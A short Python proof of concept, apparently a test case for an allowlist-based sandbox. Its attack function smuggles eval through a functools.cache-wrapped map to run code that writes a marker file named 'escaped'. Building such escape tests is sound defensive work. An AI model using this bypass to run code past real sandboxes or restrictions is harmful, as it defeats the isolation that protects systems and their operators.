"""Class: module gadget. Source: own find. Escape: a cache of a listed function is given what is not
listed."""

import functools


def attack(model, tokenizer, address):
    return list(functools.cache(map)(eval, ("open('escaped', 'w').close()",)))
